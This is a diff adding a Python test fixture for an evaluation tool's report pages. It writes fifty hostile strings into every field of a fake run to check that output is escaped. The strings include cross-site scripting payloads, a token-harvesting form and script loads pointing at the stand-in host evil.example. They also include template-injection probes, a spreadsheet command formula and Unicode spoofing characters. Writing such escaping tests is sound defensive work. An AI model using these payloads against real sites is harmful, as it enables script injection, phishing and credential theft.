@@ -1,0 +1,158 @@
+"""Fifty texts that a model, a data file or a person may write to break a page, and a run that has them everywhere.
+
+Every page is shown with all of them: `test_hostile.py` knows all routes.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from assay.core.report import Entry, Interval, Metric, Report, Slice, Table
+from assay.core.types import ASK, Call, End, Failure, Record, Request, Response, Score, Usage
+from assay.journal.folder import FILES, RunInfo, Summary, write_info, write_summary
+from assay.journal.journal import Journal
+from assay.store.notes import change_notes
+
+STRINGS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<div style='position:fixed;inset:0'>over everything</div>",
+    "<form action=//evil.example><input name=token><button>Continue</button></form>",
+    "<a href='javascript:alert(1)'>click</a>",
+    "<a href=//evil.example data-into=rows>click</a>",
+    "<dialog open>Your session has ended</dialog>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<!-- a comment that never ends",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</pre></div></main><h1>gone</h1>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    "`${alert(1)}`",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "{{ 7 * 7 }}{% raw %}",
+    "{{ ''.__class__.__mro__ }}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
+    "a\u202egnp.exe\u202c right-to-left override",
+    "\u2066isolated\u2069 \u200b\u200f\ufeff\u00ad zero width",
+    "bell \x07 escape \x1b[31m null-like \x01 delete \x7f next line \x85",
+    "line\u2028separator\u2029paragraph\r\ncarriage return",
+    "مرحبا بالعالم שלום 42 <b>bold</b>",
+    "你好，世界 " + "长" * 300,
+    "=cmd|'/c calc'!A1 +1 -1 @SUM(1)",
+    "z̷̢̛a̵͝lgo " + "\u0300" * 40 + " \U000e0041\U000e0042 tags 🏳️‍🌈",
+]
+SCORER = "hostile@1"
+
+
+def write_hostile_run(folder: Path) -> Path:
+    """Write a run of fifty cases. Case N has the Nth text in every field; the run itself has all of them."""
+    assert len(set(STRINGS)) == 50
+    folder.mkdir(parents=True)
+    for name in FILES:
+        (folder / name).touch()
+    journal = Journal(folder, [SCORER], [])
+    for number, text in enumerate(STRINGS):
+        _write_case(journal, number, text)
+    journal.close()
+    everything = "\n".join(STRINGS)
+    info = RunInfo(
+        suite="<b>suite</b>",
+        ask="a",
+        started=1_700_000_000.0,
+        version="0",
+        total=len(STRINGS),
+        command=["assay", *STRINGS],
+        spec={"model": everything},
+        parts={},
+        facts={},
+    )
+    write_info(folder, info)
+    metrics = [
+        Metric(
+            name=text,
+            value=0.5,
+            denominator=4,
+            numerator=2.0,
+            filter=text,
+            unit=text,
+            interval=Interval(0.1, 0.9),
+            left_out={text: 3},
+            warning=text,
+        )
+        for text in STRINGS
+    ]
+    missing = [Metric(name=text, value=None, denominator=0, reason=text) for text in STRINGS]
+    entry = Entry(
+        name=everything,
+        metrics=[*metrics, *missing],
+        slices=[Slice(by=text, name=text, metrics=metrics[:1]) for text in STRINGS],
+        tables=[Table(name=text, columns=[text], rows=[[text]], title=text, note=text) for text in STRINGS],
+        notes=STRINGS,
+    )
+    summary = Summary(
+        state="finished",
+        score="1",
+        scorers=[SCORER],
+        total=len(STRINGS),
+        ok=len(STRINGS) - 1,
+        subject_error=1,
+        infra_error=0,
+        exit_code=0,
+        seconds=1.0,
+        spent={},
+        this_start={},
+        files=[],
+        failures=dict.fromkeys(STRINGS, 1),
+        first_failures={text: text for text in STRINGS},
+        report=Report(entries=[entry], entry_word=STRINGS[0], notices=STRINGS),
+    )
+    write_summary(folder, summary)
+    change_notes(folder, text=everything, add_tags=["<b>tag</b>"])
+    return folder
+
+
+def _write_case(journal: Journal, number: int, text: str) -> None:
+    head = (number, text, text, text)
+    request = Request(model=text, messages=[{"role": text, "content": text}], params={text: text})
+    response = Response(text, finish=text, usage=Usage(1, 1), reasoning=text)
+    journal.call(Call(*head, ASK, 1, "first", 0, request, response))
+    journal.call(Call(*head, ASK, 1, "second", 0, Request(model="m", prompt=text), None, Failure(text, text)))
+    failure = Failure("user_code", text, text, traceback=text) if number == 0 else None
+    end = End(*head, ASK, 1, failure.status if failure else "ok", [], failure, label=text, tags=(text,))
+    journal.end_case(end, [Record(*head, 1, "answer", text, text)])
+    score = Score(
+        *head,
+        SCORER,
+        text,
+        text,
+        value=0.0,
+        reason=text,
+        data={text: text},
+        expected={text: text},
+        label=text,
+    )
+    journal.end_scoring(End(*head, SCORER, 1, "ok", []), [score])
